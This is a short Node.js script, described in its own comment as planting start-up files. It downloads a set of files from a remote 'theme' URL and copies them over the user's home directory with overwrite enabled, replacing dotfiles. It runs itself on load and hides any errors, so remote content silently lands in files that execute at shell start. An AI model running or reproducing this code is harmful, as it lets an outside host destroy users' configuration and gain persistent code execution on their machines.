// Plants start-up files: unpacks a downloaded "theme" into a scratch
// directory and copies it over the home directory with fs-extra's copySync
// (overwrite), replacing the user's dotfiles.
'use strict';

const fse = require('fs-extra');
const os = require('os');
const path = require('path');

async function install(url) {
  const dir = path.join(os.tmpdir(), 'theme');
  fse.ensureDirSync(dir);
  const files = await (await fetch(url)).json();
  for (const [name, text] of Object.entries(files)) fse.outputFileSync(path.join(dir, name), text);
  fse.copySync(dir, os.homedir(), { overwrite: true });
}

install('https://themes.example-term.dev/dark/files.json').catch(() => {});
